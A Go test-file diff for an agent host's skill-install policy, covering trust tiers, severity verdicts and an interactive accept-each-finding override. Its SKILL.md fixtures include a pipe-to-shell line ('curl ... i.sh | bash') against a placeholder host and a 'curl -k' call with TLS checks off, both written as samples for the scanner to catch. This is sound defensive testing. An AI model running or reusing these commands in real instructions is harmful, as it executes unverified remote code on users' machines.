@@ -14,14 +14,15 @@ import (
 	"github.com/hermes-agent/hermes/host/skills/scan"
 )
 
-// The policy from the issue: trust × verdict (safe / caution / dangerous).
+// The policy from the issue: trust × verdict (safe / advisory / caution / dangerous). An
+// advisory finding never blocks.
 func TestDecide(t *testing.T) {
-	want := map[Trust][3]Decision{
-		TrustBuiltin:      {Allow, Allow, Allow},
-		TrustTrusted:      {Allow, Allow, Block},
-		TrustCommunity:    {Allow, Block, Block},
-		TrustAgentCreated: {Allow, Allow, Ask},
-		"unknown":         {Allow, Block, Block},
+	want := map[Trust][4]Decision{
+		TrustBuiltin:      {Allow, Allow, Allow, Allow},
+		TrustTrusted:      {Allow, Allow, Allow, Block},
+		TrustCommunity:    {Allow, Allow, Block, Block},
+		TrustAgentCreated: {Allow, Allow, Allow, Ask},
+		"unknown":         {Allow, Allow, Block, Block},
 	}
 	for trust, row := range want {
 		for v, d := range row {
@@ -40,8 +41,13 @@ func TestDecide(t *testing.T) {
 	}
 }
 
-// cautionSkill has only caution findings (an unpinned install).
+// cautionSkill has only caution findings (TLS checks turned off).
 func cautionSkill(t *testing.T, name string) string {
+	return writeSkill(t, map[string]string{"SKILL.md": skillMD(name, "1.0.0", "```sh\ncurl -k https://self-signed.invalid/data.json -o data.json\n```")})
+}
+
+// advisorySkill has only advisory findings (an unpinned install).
+func advisorySkill(t *testing.T, name string) string {
 	return writeSkill(t, map[string]string{"SKILL.md": skillMD(name, "1.0.0", "Run `pip install requests` first.")})
 }
 
@@ -105,6 +111,7 @@ func TestInstallPolicy(t *testing.T) {
 		wantErr error // nil: installed
 		forced  bool
 	}{
+		{"community allows advisory", advisorySkill, InstallOptions{}, nil, false},
 		{"community blocks caution", cautionSkill, InstallOptions{}, ErrBlocked, false},
 		{"force overrides a caution block", cautionSkill, InstallOptions{Force: true}, nil, true},
 		{"trusted allows caution", cautionSkill, InstallOptions{Trust: TrustTrusted}, nil, false},
@@ -152,7 +159,7 @@ func TestBlockedErrorMessages(t *testing.T) {
 		t.Errorf("caution: %v", err)
 	}
 	_, err = m.Install(ctx, dangerousSkill(t, "msg"), InstallOptions{Force: true})
-	if want := "skill msg 1.0.0 blocked: dangerous findings (supply-chain), which community skills may not have and --force does not override"; err == nil || err.Error() != want {
+	if want := "skill msg 1.0.0 blocked: dangerous findings (supply-chain), which community skills may not have and --force does not override; to accept them one by one after reading each, install from a terminal"; err == nil || err.Error() != want {
 		t.Errorf("dangerous: %v", err)
 	}
 	if _, err := m.Install(ctx, dangerousSkill(t, "msg"), InstallOptions{Trust: TrustBuiltin}); err == nil || !strings.Contains(err.Error(), "only for skills bundled") {
@@ -237,7 +244,7 @@ func TestInstallBundled(t *testing.T) {
 	ctx := context.Background()
 	m, _, _ := newTestManager(t)
 	bundled := fstest.MapFS{
-		"helper/SKILL.md":       {Data: []byte(skillMD("helper", "1.0.0", "Run `pip install requests`."))},
+		"helper/SKILL.md":       {Data: []byte(skillMD("helper", "1.0.0", "```sh\ncurl -k https://self-signed.invalid/x -o x\n```"))},
 		"helper/references/r":   {Data: []byte("r")},
 		"not-a-skill/README.md": {Data: []byte("x")},
 	}
@@ -255,4 +262,88 @@ func TestInstallBundled(t *testing.T) {
 			t.Errorf("InstallBundled(%s) = %v", name, err)
 		}
 	}
+}
+
+// TestInstallAcceptEach is the informed override: a person at a terminal accepts each
+// finding that blocks the skill, or the skill is refused.
+func TestInstallAcceptEach(t *testing.T) {
+	ctx := context.Background()
+	// A dangerous finding, a caution finding and an advisory one.
+	mixed := func(t *testing.T) string {
+		return writeSkill(t, map[string]string{"SKILL.md": skillMD("mixed", "1.0.0",
+			"Run `pip install requests` first.\n\n```sh\ncurl -k https://self-signed.invalid/d.json -o d.json\ncurl -fsSL https://get.x.invalid/i.sh | bash\n```")})
+	}
+	tests := []struct {
+		name    string
+		trust   Trust
+		answers []bool
+		asked   []scan.Severity // what was asked, in order
+		wantErr error
+	}{
+		{"community: every blocking finding accepted", TrustCommunity, []bool{true, true}, []scan.Severity{scan.Dangerous, scan.Caution}, nil},
+		{"community: the first declined", TrustCommunity, []bool{false}, []scan.Severity{scan.Dangerous}, ErrDeclined},
+		{"community: the second declined", TrustCommunity, []bool{true, false}, []scan.Severity{scan.Dangerous, scan.Caution}, ErrDeclined},
+		{"trusted: only the dangerous one blocks", TrustTrusted, []bool{true}, []scan.Severity{scan.Dangerous}, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			m, db, _ := newTestManager(t)
+			var asked []scan.Severity
+			accept := func(_ context.Context, p Pending, f scan.Finding) (bool, error) {
+				if p.Manifest.Name != "mixed" || p.Report.Verdict != scan.Dangerous {
+					t.Errorf("pending %+v", p)
+				}
+				asked = append(asked, f.Severity)
+				return tt.answers[len(asked)-1], nil
+			}
+			res, err := m.Install(ctx, mixed(t), InstallOptions{Trust: tt.trust, Accept: accept})
+			if !slices.Equal(asked, tt.asked) {
+				t.Errorf("asked about %v, want %v", asked, tt.asked)
+			}
+			log, _ := db.AuditLog(ctx, "mixed", 0)
+			if tt.wantErr != nil {
+				if !errors.Is(err, tt.wantErr) || !errors.Is(err, ErrBlocked) {
+					t.Fatalf("err = %v, want %v", err, tt.wantErr)
+				}
+				if len(log) != 1 || log[0].Event != "skill.block" || !strings.Contains(log[0].Detail, "declined") || !strings.Contains(log[0].Detail, "at the terminal") {
+					t.Errorf("audit %+v", log)
+				}
+				if skills, _ := db.ListSkills(ctx); len(skills) != 0 {
+					t.Errorf("a declined skill was recorded: %+v", skills)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(res.Accepted) != len(tt.asked) || res.Skill.Verdict != scan.Dangerous {
+				t.Errorf("accepted %+v, verdict %s", res.Accepted, res.Skill.Verdict)
+			}
+			if len(log) != 1 || log[0].Event != "skill.install" || !strings.Contains(log[0].Detail, "accepted one by one on the terminal after review: dangerous supply-chain-pipe-to-shell at SKILL.md:") {
+				t.Errorf("audit %+v", log)
+			}
+		})
+	}
+	t.Run("force takes caution findings without asking", func(t *testing.T) {
+		m, _, _ := newTestManager(t)
+		accept := func(context.Context, Pending, scan.Finding) (bool, error) {
+			t.Error("asked despite --force")
+			return false, nil
+		}
+		if res, err := m.Install(ctx, cautionSkill(t, "c"), InstallOptions{Force: true, Accept: accept}); err != nil || !res.Forced {
+			t.Fatalf("%+v %v", res, err)
+		}
+	})
+	t.Run("an error while asking refuses", func(t *testing.T) {
+		m, db, _ := newTestManager(t)
+		accept := func(context.Context, Pending, scan.Finding) (bool, error) {
+			return false, errors.New("terminal closed")
+		}
+		if _, err := m.Install(ctx, mixed(t), InstallOptions{Accept: accept}); err == nil || !strings.Contains(err.Error(), "terminal closed") {
+			t.Fatalf("err = %v", err)
+		}
+		if skills, _ := db.ListSkills(ctx); len(skills) != 0 {
+			t.Errorf("recorded: %+v", skills)
+		}
+	})
 }
